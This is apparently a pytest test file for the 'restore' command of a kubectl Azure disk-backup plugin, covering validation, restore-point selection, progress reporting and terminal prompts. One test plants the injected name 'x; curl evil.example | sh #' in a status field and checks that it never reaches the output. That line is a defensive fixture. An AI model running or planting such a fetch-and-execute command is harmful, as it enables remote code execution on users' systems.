"""`restore`: what keeps it from being made, how it is followed, and what it tells at the end."""

from __future__ import annotations

import copy
import io
import json
import os
import pty
import shlex
import signal
import sys
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
import yaml

from azdiskbackup.api.v1alpha1.disk_restore import DiskRestoreSpec
from azdiskbackup.core.identity.arm_ids import ArmId
from azdiskbackup.core.objects.resource import Resource, parse_spec
from azdiskbackup.errors import Unavailable
from azdiskbackup.plugin.commands import restore_points
from azdiskbackup.plugin.commands.restore_points import RestorePoint
from azdiskbackup.plugin.output.mounting import mounting
from azdiskbackup.plugin.output.point_in_time import point_in_time
from azdiskbackup.plugin.runtime.completion import names
from harness import objects
from plugin import world
from plugin.conftest import Run
from plugin.world import NOW, Api, Json

BY_INSTANCE = "restore --instance gone-1 --vault demo"


@pytest.mark.parametrize(
    ("typed", "meant"),
    [
        ("2026-11-22T10:00:00Z", datetime(2026, 11, 22, 10, 0, 0, 999000, tzinfo=UTC)),
        ("2026-11-22T10:00:00.5+01:00", datetime(2026, 11, 22, 9, 0, 0, 500000, tzinfo=UTC)),
        ("2026-11-22 10:00", datetime(2026, 11, 22, 10, 0, 59, 999000, tzinfo=UTC)),
        ("2026-11-22 10:00 utc", datetime(2026, 11, 22, 10, 0, 59, 999000, tzinfo=UTC)),
        ("3h", datetime(2026, 11, 22, 9, tzinfo=UTC)),
        (" 2d ago ", datetime(2026, 11, 20, 12, tzinfo=UTC)),
        ("1d12h", datetime(2026, 11, 21, 0, tzinfo=UTC)),
        ("90m", datetime(2026, 11, 22, 10, 30, tzinfo=UTC)),
    ],
)
def test_times_as_people_type_them(typed: str, meant: datetime) -> None:
    assert point_in_time(typed, NOW) == meant


def test_a_time_that_is_copied_from_a_table_means_the_restore_point_of_that_minute(run: Run, api: Api) -> None:
    """Tables show minutes; points are taken at fractions of a second."""
    for each in api.objects["protecteddisks"]:
        if each["metadata"]["name"] == "data":
            each["status"] = copy.deepcopy(each["status"])
            each["status"]["restorePoints"]["oldest"] = "2026-11-19T14:00:12.345678Z"
    code, out, err = run("restore", "data", "--at", "2026-11-19 14:00", "--dry-run", "-o", "json")
    assert code == 0, err
    assert json.loads(out)["spec"]["restorePoint"] == {"notAfter": "2026-11-19T14:00:59.999000Z"}
    code, out, err = run("restore", "data", "--at", "2026-11-19T14:00:12.345678Z", "--dry-run", "-o", "json")
    assert code == 0, err
    assert json.loads(out)["spec"]["restorePoint"] == {"notAfter": "2026-11-19T14:00:12.345678Z"}


@pytest.mark.parametrize("typed", ["", "yesterday", "2026-11-22", "10:00", "3x", "2026-13-01 10:00", "-3h", "3"])
def test_what_is_no_time(typed: str) -> None:
    with pytest.raises(ValueError, match="invalid time"):
        point_in_time(typed, NOW)


@pytest.mark.parametrize(
    ("command", "code", "says"),
    [
        ("restore", 2, "name a DISK, or a backup instance with --instance"),
        ("restore data --instance gone-1 --vault demo", 2, "use either DISK or --instance"),
        ("restore --instance gone-1", 2, "use --instance and --vault together"),
        ("restore data --at 3h --point point-1", 2, "use either --at or --point"),
        ("restore data --disk-only --pvc x", 2, "--disk-only makes no PVC"),
        (f"{BY_INSTANCE} --pvc x", 2, "--storage-class and --fs-type (or --volume-mode Block), or --disk-only"),
        (f"{BY_INSTANCE} --pvc x --storage-class y --volume-mode Filesystem", 2, "and --fs-type (or --volume-mode"),
        ("restore data --volume-mode Block --fs-type xfs", 2, "a Block volume has no file system"),
        ("restore data --disk-only --access-mode ReadWriteMany", 2, "--disk-only makes no PVC"),
        ("restore data --disk-only --volume-mode Block", 2, "--disk-only makes no PVC"),
        ("restore data --access-mode RWO", 2, "'RWO' is not one of"),
        ("restore data --pvc Bad_Name", 2, "invalid PVC name 'Bad_Name'"),
        ("restore data --name Bad_Name", 2, "invalid DiskRestore name"),
        ("restore data --point a/b", 2, "invalid id of a restore point"),
        ("restore data --at yesterday", 2, "invalid time 'yesterday'"),
        ("restore data --at 2026-12-22T10:00:00Z", 2, "is in the future"),
        (
            "restore dat",
            1,
            "Did you mean data or data-0? Backups whose ProtectedDisk was deleted: kubectl azdiskbackup",
        ),
        ("restore --name x", 1, "DiskRestore 'x' does not exist. Existing: lost-0-restored. To make one, name a DISK."),
        ("restore orders", 1, "shop/orders is not backed up yet, so there is nothing to restore."),
        ("restore data --at 9d", 1, "The oldest restore point of shop/data was taken at 2026-11-19 14:00 UTC, after"),
        ("restore data --pvc cache-0", 1, "PVC 'cache-0' exists in the namespace 'shop'"),
        ("restore data --pvc lost-0-restored", 1, "A DiskRestore that has not ended makes a PVC 'lost-0-restored'"),
        ("restore data --name lost-0-restored", 1, "exists and restores something else. Choose another --name."),
        (
            "restore lost --pvc other",
            1,
            "Use --storage-class and --fs-type (or --volume-mode Block) as the old PVC had them, or --disk-only.",
        ),
        (
            "restore --instance gone-1 --vault dmo --disk-only",
            1,
            "BackupVault 'dmo' does not exist. Did you mean demo?",
        ),
        ("restore data --reclaim-policy Keep", 2, "'Keep' is not one of"),
        ("restore data --fs-type ntfs", 2, "'ntfs' is not one of"),
    ],
)
def test_what_cannot_be_restored_gets_a_sentence_before_anything_is_made(
    run: Run, api: Api, command: str, code: int, says: str
) -> None:
    before = len(api.objects["diskrestores"])
    ended, out, err = run(*command.split())
    assert (ended, out) == (code, "")
    assert says in " ".join(err.split()), err
    assert len(api.objects["diskrestores"]) == before


def vault(**spec: Any) -> Json:
    return {**world.VAULT, "spec": {**world.VAULT["spec"], **spec}}


@pytest.mark.parametrize(
    ("command", "spec", "says"),
    [
        ("restore data", {"access": {}}, "(`access.restoreNamespaces`). It allows no namespace: ask the platform team"),
        (
            "restore data",
            {"access": {"restoreNamespaces": {"matchLabels": {"tier": "prod"}}}},
            "Ask the platform team for `kubectl label namespace shop tier=prod`.",
        ),
        (
            "restore data",
            {"access": {"restoreNamespaces": {"matchExpressions": [{"key": "tier", "operator": "Exists"}]}}},
            "label the namespace as `access.restoreNamespaces` requires",
        ),
        (f"{BY_INSTANCE} --disk-only", {"access": {"restoreNamespaces": {}}}, "`access.restoreOrphanNamespaces`"),
        ("restore data", {"restoreResourceGroups": None}, "names no resource group for restored disks"),
    ],
)
def test_a_vault_that_does_not_allow_it(run: Run, api: Api, command: str, spec: Json, says: str) -> None:
    api.objects["backupvaults"] = [vault(**spec)]
    ended, _, err = run(*command.split())
    assert ended == 1 and says in " ".join(err.split()), err
    # Who may not see that asks the operator.
    api.denied = ("backupvaults", "namespaces", "persistentvolumes")
    ended, out, err = run(*command.split())
    assert (ended, err.count("cannot")) == (0, 0) and out.startswith("diskrestore/")


def test_no_restore_point_yet(run: Run, api: Api) -> None:
    made = world.good()
    del made["status"]["restorePoints"], made["status"]["lastSuccessfulBackupTime"]
    api.objects["protecteddisks"] = [made]
    _, _, err = run("restore", "data")
    assert "shop/data has no restore point yet. To take one: kubectl azdiskbackup backup data -n shop --wait" in err
    # The list is older than the first backup: the operator lists them anew.
    made["status"]["lastSuccessfulBackupTime"] = world.ago(hours=1)
    assert run("restore", "data")[0] == 0


def test_a_point_that_the_status_does_not_list_is_said_and_restored(run: Run, api: Api) -> None:
    ended, out, err = run("restore", "data", "--point", "newer", "--dry-run")
    assert ended == 0 and "Restore point newer is not among the 18" in err
    spec = yaml.safe_load(out)["spec"]
    assert spec["restorePoint"] == {"id": "newer"}


@pytest.mark.parametrize(
    "command",
    [
        "restore data",
        "restore data --at 3h --name a --reclaim-policy Delete --ttl 60",
        "restore data --disk-only --point point-2",
        "restore lost --pvc other --storage-class managed-csi --fs-type xfs",
        "restore lost --pvc other --storage-class managed-csi --volume-mode Block",
        f"{BY_INSTANCE} --pvc x --storage-class managed-csi --fs-type ext4",
        f"{BY_INSTANCE} --pvc x --storage-class y --volume-mode Block --access-mode ReadWriteMany",
        "restore data --access-mode ReadWriteOnce --access-mode ReadOnlyMany",
    ],
)
def test_what_is_made_is_what_the_kind_takes(run: Run, api: Api, command: str) -> None:
    _, out, _ = run(*command.split(), "--dry-run", "-o", "json")
    ended, _, _ = run(*command.split())
    made = api.objects["diskrestores"][-1]
    assert ended == 0 and json.loads(out)["spec"] == made["spec"]
    assert isinstance(parse_spec(DiskRestoreSpec, Resource(made)), DiskRestoreSpec)


def test_a_name_that_is_taken_gets_a_number_and_that_is_said(run: Run, api: Api) -> None:
    api.objects["persistentvolumeclaims"].append(world.claim("data-0-restored", "shop"))
    done = world.restore("data-0-restored-2", "shop", "data", "x", world.condition("Succeeded", "True", "Completed"))
    api.objects["diskrestores"].append(done)
    _, out, err = run("restore", "data")
    assert "PVC 'data-0-restored' exists, so the new one is 'data-0-restored-2'." in err
    assert out == "diskrestore/data-0-restored-2-2\n"
    assert api.objects["diskrestores"][-1]["spec"]["target"]["persistentVolumeClaim"]["name"] == "data-0-restored-2"


def test_the_same_command_again_makes_no_second_one(run: Run, api: Api) -> None:
    for command in ("restore data", "restore data --pvc data-0-restored", "restore data --name data-0-restored"):
        assert run(*command.split())[1] == "diskrestore/data-0-restored\n"
    assert len(api.objects["diskrestores"]) == 3
    # Another time is another restore.
    assert run("restore", "data", "--at", "2d")[1] == "diskrestore/data-0-restored-2\n"
    assert run("restore", "data", "--at", "2d")[1] == "diskrestore/data-0-restored-2\n"


def test_one_that_may_have_been_made_is_said_so(run: Run, api: Api, monkeypatch: pytest.MonkeyPatch) -> None:
    async def lost(path: str, body: Any) -> Any:
        raise Unavailable("ServerDisconnectedError", "no answer")

    monkeypatch.setattr(api, "create", lost)
    ended, _, err = run("restore", "data")
    assert ended == 1
    assert "to follow it: kubectl azdiskbackup restore -n shop --name data-0-restored --wait" in err


def test_the_restore_points_of_a_pvc_that_had_another_disk_before(run: Run, api: Api) -> None:
    """As after a swap: the PVC has two ProtectedDisks, each with the restore points of its disk."""
    before = world.disk(
        "before", "shop", claim="data-0", backupInstanceID=f"{world.INSTANCE}before",
        restorePoints=world.points([world.GOOD_TIMES[1].replace(minute=30)]),
    )  # fmt: skip
    api.objects["protecteddisks"].append(before)
    for name in ("data-0", "data"):
        code, out, err = run("restore-points", name, "--all-disks", "--from", "status")
        assert code == 0 and "restore DISK -n shop --point ID" in err
        assert [line.split()[0] for line in out.splitlines()[:4]] == ["DISK", "data", "before", "data"]
    assert "before" not in run("restore-points", "lost", "--all-disks", "--from", "status")[1]
    assert run("restore-points", "nothing", "--all-disks")[0] == 1


EARLIER: Json = {
    "id": objects.disk_id("pvc-before"),
    "name": "pvc-before",
    "backupInstanceID": f"{world.INSTANCE}before",
    "replacedTime": world.ago(hours=1),
    "oldestRestorePoint": world.ago(days=20),
    "newestRestorePoint": world.ago(days=9),
}


@pytest.fixture
def followed(api: Api) -> None:
    """The disk of shop/data is not its first one."""
    for each in api.objects["protecteddisks"]:
        if each["metadata"]["name"] == "data":
            each["status"] = {**each["status"], "earlierDisks": [EARLIER]}


@pytest.mark.usefixtures("followed")
def test_a_disk_that_the_pvc_had_before_is_restored_by_its_name(run: Run, api: Api) -> None:
    code, _, err = run("restore", "data", "--at", "10d")
    assert code == 1 and "The PVC had another disk before: --earlier-disk pvc-before" in err
    assert "Name a later time with --at." in run("restore", "data", "--at", "30d")[2]
    code, _, err = run("restore", "data", "--earlier-disk", "pvc-befor")
    assert code == 1 and "shop/data has protected no disk 'pvc-befor' before. Did you mean pvc-before?" in err
    assert run("restore", "data", "--earlier-disk", "a/b")[0] == 2
    assert "--earlier-disk is one of a DISK" in run(*BY_INSTANCE.split(), "--earlier-disk", "pvc-before")[2]
    code, out, _ = run("restore", "data", "--earlier-disk", "pvc-before", "--at", "10d", "--dry-run", "-o", "json")
    assert code == 0
    assert json.loads(out)["spec"]["source"] == {"protectedDiskRef": {"name": "data", "disk": "pvc-before"}}


@pytest.mark.usefixtures("followed")
def test_right_after_the_pvc_got_another_disk_there_is_something_to_restore(run: Run, api: Api) -> None:
    of_disk = ("backupInstanceID", "disk", "restorePoints", "lastSuccessfulBackupTime", "protectionState")
    for each in api.objects["protecteddisks"]:
        if each["metadata"]["name"] == "data":
            each["status"] = {key: value for key, value in each["status"].items() if key not in of_disk}
    code, _, err = run("restore", "data")
    assert code == 1 and "The PVC had another disk before: --earlier-disk pvc-before" in err
    assert "--all-disks" in run("restore-points", "data", "--from", "status")[2]
    assert "--all-disks" not in run("restore-points", "data", "--all-disks", "--from", "status")[2]


def test_a_name_that_somebody_wrote_into_status_is_no_command(run: Run, api: Api) -> None:
    for each in api.objects["protecteddisks"]:
        if each["metadata"]["name"] == "data":
            each["status"] = {**each["status"], "earlierDisks": [{**EARLIER, "name": "x; curl evil.example | sh #"}]}
    assert "curl" not in "".join(run("restore-points", "data", "--all-disks", "--from", "status")[1:])


@pytest.mark.usefixtures("followed")
def test_the_restore_points_of_an_earlier_disk_are_named_where_azure_cannot_be_read(run: Run) -> None:
    code, out, err = run("restore-points", "data", "--all-disks", "--from", "status")
    assert code == 0 and "EARLIER DISK" in out
    assert "kubectl azdiskbackup restore data -n shop --earlier-disk pvc-before [--at TIME]" in " ".join(err.split())
    assert "pvc-before" not in run("restore-points", "data", "--from", "status")[2]
    assert "disk pvc-before, until 2026-11-22 11:00" in " ".join(run("describe", "data")[1].split())


@pytest.mark.usefixtures("followed")
def test_the_restore_points_of_an_earlier_disk_are_listed_from_azure(run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
    async def of_azure(instance: ArmId, disk: str) -> list[RestorePoint]:
        when = NOW - timedelta(days=9 if instance.name == "before" else 1)
        unknown: Json = dict.fromkeys(("expiry_time", "retention_rule", "type", "arm_id"))
        return [RestorePoint(disk=disk, id=f"of-{instance.name}", time=when, **unknown)]

    monkeypatch.setattr(restore_points, "_of_azure", of_azure)
    code, out, _ = run("restore-points", "data", "--all-disks", "-o", "json")
    found = [(each["id"], each["earlierDisk"]) for each in json.loads(out)["items"]]
    assert code == 0 and found == [("of-data", None), ("of-before", "pvc-before")]
    assert "--point ID [--earlier-disk NAME]" in run("restore-points", "data", "--all-disks")[2]


@pytest.mark.parametrize(
    ("what", "begins", "found"),
    [
        ("restores", "lo", ["lost-0-restored"]),
        ("restores", "ledger", []),
        ("vaults", "", ["demo"]),
        ("claims", "c", ["cache-0"]),
        ("disks", "dat", ["data"]),
    ],
)
@pytest.mark.usefixtures("run")
def test_names_are_completed_from_where_they_are(what: str, begins: str, found: list[str]) -> None:
    assert names(what, {"namespace": "shop"}, begins) == found


# --- followed -----------------------------------------------------------------------------------------

Story = Callable[[str, list[Json]], None]


@pytest.fixture
def story(api: Api, monkeypatch: pytest.MonkeyPatch) -> Story:
    """Return what lets an object have one status after the other, a look each."""
    monkeypatch.setattr("azdiskbackup.plugin.cluster.follow.LOOK_EVERY_SECONDS", 0)

    answer = api.get

    def told(name: str, statuses: list[Json]) -> None:
        left = list(statuses)

        async def looks(path: str) -> Any:
            if path.endswith(f"/diskrestores/{name}"):
                for made in api.objects["diskrestores"]:
                    if made["metadata"]["name"] == name:
                        made["status"] = left.pop(0)
            return await answer(path)

        monkeypatch.setattr(api, "get", looks)

    return told


def succeeded(status: str, reason: str, message: str = "") -> Json:
    return world.condition("Succeeded", status, reason, message)


_POINT: Json = {"restorePoint": world.PINNED}
_CLAIM: Json = {**_POINT, "persistentVolumeClaim": "data-0-restored"}
_VALIDATED = world.condition("Validated", "True", "Passed")
_RUNNING: Json = {**_CLAIM, "jobID": "job-7", "startTime": world.ago(minutes=4)}
_DISK: Json = {
    **_RUNNING,
    "durationSeconds": 216,
    "disk": {
        "id": "/subscriptions/s/resourceGroups/restored-rg/providers/Microsoft.Compute/disks/data-0-restored-7",
        "name": "data-0-restored-7",
        "sizeGiB": 128,
        "sku": "Premium_LRS",
        "location": "westeurope",
        "zones": ["1"],
    },
    "persistentVolume": "azdiskbackup-7",
}
WAITING = "Azure refuses the vault's identity access. Waiting for {} min; next attempt at 2026-11-22 12:0{} UTC."
BACK = [
    {},
    {**_POINT, "conditions": [succeeded("Unknown", "Creating")]},
    *({**_CLAIM, "conditions": [succeeded("Unknown", "WaitingForPermissions", WAITING.format(n, n))]} for n in (1, 2)),
    {**_CLAIM, "conditions": [_VALIDATED, succeeded("Unknown", "Starting")]},
    *({**_RUNNING, "conditions": [_VALIDATED, succeeded("Unknown", "InProgress")]} for _ in range(2)),
    {**_DISK, "conditions": [_VALIDATED, succeeded("Unknown", "BindPending")]},
    {
        **_DISK,
        "completionTime": world.ago(minutes=0),
        "conditions": [
            _VALIDATED,
            world.condition("VolumeBound", "True", "Bound"),
            succeeded("True", "Completed", "The restore succeeded."),
        ],
    },
]


def test_each_step_is_told_once(run: Run, story: Story, golden: Callable[[str, str], None]) -> None:
    story("data-0-restored", BACK)
    code, out, err = run("restore", "data", "--wait")
    golden("restore story", f"$ restore data --wait → {code}\n{out}--- stderr\n{err}")
    lines = err.splitlines()
    assert code == 0 and len(lines) == len(set(lines))


def test_one_that_is_followed_again_is_no_other_one(run: Run, api: Api, story: Story) -> None:
    assert run("restore", "data")[0] == 0
    story("data-0-restored", BACK[3:])
    code, out, err = run("restore", "data", "--wait")
    assert code == 0 and "does that already" in err and "claimName" in out
    assert len(api.objects["diskrestores"]) == 3
    # Its end can be read later, too.
    story("data-0-restored", BACK[-1:])
    assert "Completed in 3m" in run("restore", "--name", "data-0-restored", "--wait")[1]


def test_a_failure_has_its_exit_code_and_its_words(run: Run, api: Api) -> None:
    code, out, _ = run("restore", "-n", "bank", "--name", "ledger-0-restored", "--wait")
    assert code == 3 and world.QUOTA["code"] in out and "kubectl run" not in out
    code, out, _ = run("restore", "-n", "bank", "--name", "ledger-0-restored", "--wait", "-o", "json")
    assert code == 3 and json.loads(out)["succeeded"] is False


def test_what_does_not_end_is_left_alone(run: Run, story: Story, monkeypatch: pytest.MonkeyPatch) -> None:
    clock = iter(range(0, 10_000, 50))
    monkeypatch.setattr("azdiskbackup.plugin.cluster.follow.time.monotonic", lambda: next(clock))
    story("data-0-restored", [{}] * 9)
    code, _, err = run("restore", "data", "--wait", "--timeout", "200")
    assert code == 124 and err.count("kubectl azdiskbackup check") == 1
    assert "It continues; to follow it: kubectl azdiskbackup restore -n shop --name data-0-restored --wait" in err


def test_an_object_that_somebody_deletes(run: Run, api: Api, story: Story, monkeypatch: pytest.MonkeyPatch) -> None:
    story("data-0-restored", [{}])
    answer = api.get

    async def deleted(path: str) -> Any:
        found = await answer(path)
        api.objects["diskrestores"] = []
        return found

    monkeypatch.setattr(api, "get", deleted)
    code, _, err = run("restore", "data", "--wait", "--pvc", "data-0-restored")
    assert code == 1 and "was deleted. A restore that Azure has started continues, and its disk stays." in err


# --- what mounts it -----------------------------------------------------------------------------------


@pytest.mark.parametrize("block", [False, True])
def test_the_command_that_looks_into_it_is_one_that_works(block: bool) -> None:
    lines = list(mounting("shop", "it's.data", block=block))
    words = shlex.split(next(each for each in lines if "kubectl" in each))
    (overrides,) = [each.partition("=")[2] for each in words if each.startswith("--overrides=")]
    pod = json.loads(overrides)["spec"]
    (container,) = pod["containers"]
    (mounted,) = container["volumeDevices" if block else "volumeMounts"]
    assert pod["volumes"] == [{"name": mounted["name"], "persistentVolumeClaim": {"claimName": "it's.data"}}]
    assert ("devicePath" if block else "mountPath") in mounted
    stanza = yaml.safe_load("\n".join(lines[3:]))
    assert stanza == {"volumes": pod["volumes"]}


# --- at a terminal ------------------------------------------------------------------------------------


@pytest.fixture
def terminal(monkeypatch: pytest.MonkeyPatch) -> Iterator[Callable[[str], None]]:
    """Yield what types at the terminal of the command."""
    ours, theirs = pty.openpty()
    stream = os.fdopen(theirs, encoding="utf-8")
    monkeypatch.setattr(sys, "stdin", stream)
    monkeypatch.setattr(
        "azdiskbackup.plugin.commands.restore.can_ask", lambda printer: sys.stdin.isatty() and not printer.structured
    )

    def types(text: str) -> None:
        os.write(ours, text.encode())

    yield types
    stream.close()
    os.close(ours)


@pytest.mark.parametrize(("typed", "point"), [("\n", "point-0"), ("3\n", "point-2"), ("x\n99\n2\n", "point-1")])
def test_a_person_chooses(
    run: Run, terminal: Callable[[str], None], golden: Callable[[str, str], None], typed: str, point: str
) -> None:
    terminal(typed)
    code, out, err = run("restore", "data", "--dry-run")
    assert code == 0 and yaml.safe_load(out)["spec"]["restorePoint"] == {"id": point}
    if typed == "\n":
        golden("restore choice", err)


@pytest.mark.parametrize("typed", ["\x04", "a\nb\nc\n"])
def test_a_person_who_does_not_choose_gets_nothing(
    run: Run, api: Api, terminal: Callable[[str], None], typed: str
) -> None:
    terminal(typed)
    assert run("restore", "data")[0] != 0
    assert len(api.objects["diskrestores"]) == 2


def test_who_said_which_is_not_asked(run: Run, terminal: Callable[[str], None]) -> None:
    for words in (("--at", "3h"), ("--point", "point-4"), ("-o", "json")):
        code, _, err = run("restore", "data", "--dry-run", *words)
        assert code == 0 and "Which one" not in err


def test_ctrl_c_at_the_question_ends_it(run: Run, api: Api, monkeypatch: pytest.MonkeyPatch) -> None:
    """The handler of the event loop would wait for the line first."""
    typed = []

    class Terminal(io.StringIO):
        def readline(self, *_: Any) -> str:
            os.kill(os.getpid(), signal.SIGINT)
            typed.append("1")
            return "1\n"

    monkeypatch.setattr(sys, "stdin", Terminal())
    monkeypatch.setattr("azdiskbackup.plugin.commands.restore.can_ask", lambda printer: True)
    assert run("restore", "data")[0] == 130
    assert not typed and len(api.objects["diskrestores"]) == 2


def test_without_a_terminal_nobody_is_asked(run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys, "stdin", io.StringIO("3\n"))
    _, out, err = run("restore", "data", "--dry-run")
    assert "restorePoint" not in yaml.safe_load(out)["spec"] and "Which one" not in err
